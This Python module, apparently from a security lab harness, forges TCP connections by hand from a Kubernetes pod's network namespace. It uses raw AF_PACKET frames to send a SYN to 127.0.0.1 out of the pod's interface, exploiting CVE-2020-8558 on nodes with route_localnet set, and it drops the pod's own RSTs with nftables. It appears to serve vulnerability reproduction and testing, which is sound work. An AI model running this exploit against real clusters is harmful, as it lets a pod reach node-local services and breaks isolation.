"""TCP written by hand from a pod's netns with AF_PACKET: what a pod with CAP_NET_RAW (in the container runtimes'
default capability set) can send, addresses the kernel's own stack would never put on the wire included, such as a
SYN to 127.0.0.1 out of the pod's interface. With net.ipv4.conf.*.route_localnet=1 on the node (kube-proxy's
iptables mode sets it for NodePorts on localhost) the node's kernel accepts such a packet: CVE-2020-8558.

:func:`handshake` sends the SYN, completes the handshake, sends a request and returns what came back. The pod's
own stack knows nothing of the connection and would reset it: the caller drops the pod's outgoing RSTs
(:func:`drop_own_resets`).
"""

from __future__ import annotations

import random
import select
import socket
import struct
import subprocess
import time
from dataclasses import dataclass, field

from lab import netns

_SYN, _RST, _ACK, _PSH_ACK, _FIN = 0x02, 0x04, 0x10, 0x18, 0x01


@dataclass
class Exchange:
    """What the forged connection saw: whether the SYN was answered, the bytes received, and whether the far end
    reset it."""

    accepted: bool = False
    data: bytes = b""
    reset: bool = False
    flags: list[int] = field(default_factory=list)


def drop_own_resets(pod_netns: str) -> None:
    """An nftables rule in the pod dropping the RSTs its kernel sends for connections it never opened."""
    script = "table inet forged {\n chain out {\n  type filter hook output priority 0;\n  tcp flags rst drop\n }\n}\n"
    subprocess.run(["ip", "netns", "exec", pod_netns, "nft", "-f", "-"], input=script, text=True, check=True)


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def _ipv4(src: str, dst: str, payload: bytes) -> bytes:
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0x4000, 64, 6, 0, socket.inet_aton(src), socket.inet_aton(dst)
    )
    return head[:10] + struct.pack("!H", _checksum(head)) + head[12:] + payload


def _tcp(src: str, dst: str, ports: tuple[int, int], seq: int, ack: int, flags: int, data: bytes = b"") -> bytes:
    head = struct.pack("!HHIIBBHHH", ports[0], ports[1], seq, ack, 5 << 4, flags, 65535, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(head) + len(data))
    return head[:16] + struct.pack("!H", _checksum(pseudo + head + data)) + head[18:] + data


def handshake(
    pod_netns: str,
    ifname: str,
    macs: tuple[str, str],
    src: str,
    dst: tuple[str, int],
    request: bytes,
    wait: float = 3.0,
) -> Exchange:
    """From ``src`` in ``pod_netns`` (leaving by ``ifname``, frames from ``macs[0]`` to ``macs[1]``), connect to
    ``dst`` by hand, send ``request`` once established, and collect the answer until FIN, RST or ``wait`` seconds
    (a liveness bound: a refused connection sends nothing). Blocking: run it in a thread."""
    out = Exchange()
    with netns.enter(pod_netns):
        raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    try:
        raw.bind((ifname, 0x0800))
        eth = bytes.fromhex(macs[1].replace(":", "")) + bytes.fromhex(macs[0].replace(":", "")) + b"\x08\x00"
        sport = random.randint(20000, 60000)
        isn = random.getrandbits(32)

        def send(flags: int, seq: int, ack: int, data: bytes = b"") -> None:
            raw.send(eth + _ipv4(src, dst[0], _tcp(src, dst[0], (sport, dst[1]), seq, ack, flags, data)))

        send(_SYN, isn, 0)
        deadline = time.monotonic() + wait
        while time.monotonic() < deadline:
            if not select.select([raw], [], [], 0.1)[0]:
                continue
            frame = raw.recv(65535)
            ip = frame[14:]
            if len(ip) < 40 or ip[9] != 6 or socket.inet_ntoa(ip[12:16]) != dst[0]:
                continue
            ihl = (ip[0] & 15) * 4
            seg = ip[ihl:]
            sp, dp, seq, _ack, off, flags = struct.unpack("!HHIIBB", seg[:14])
            if (sp, dp) != (dst[1], sport):
                continue
            out.flags.append(flags)
            data = seg[(off >> 4) * 4 : struct.unpack("!H", ip[2:4])[0] - ihl]
            if flags & (_SYN | _ACK) == _SYN | _ACK and not out.accepted:
                out.accepted = True
                send(_ACK, isn + 1, seq + 1)
                send(_PSH_ACK, isn + 1, seq + 1, request)
            elif data:
                out.data += data
                send(_ACK, isn + 1 + len(request), seq + len(data))
            if flags & _RST:
                out.reset = True
                break
            if flags & _FIN:
                break
    finally:
        raw.close()
    return out
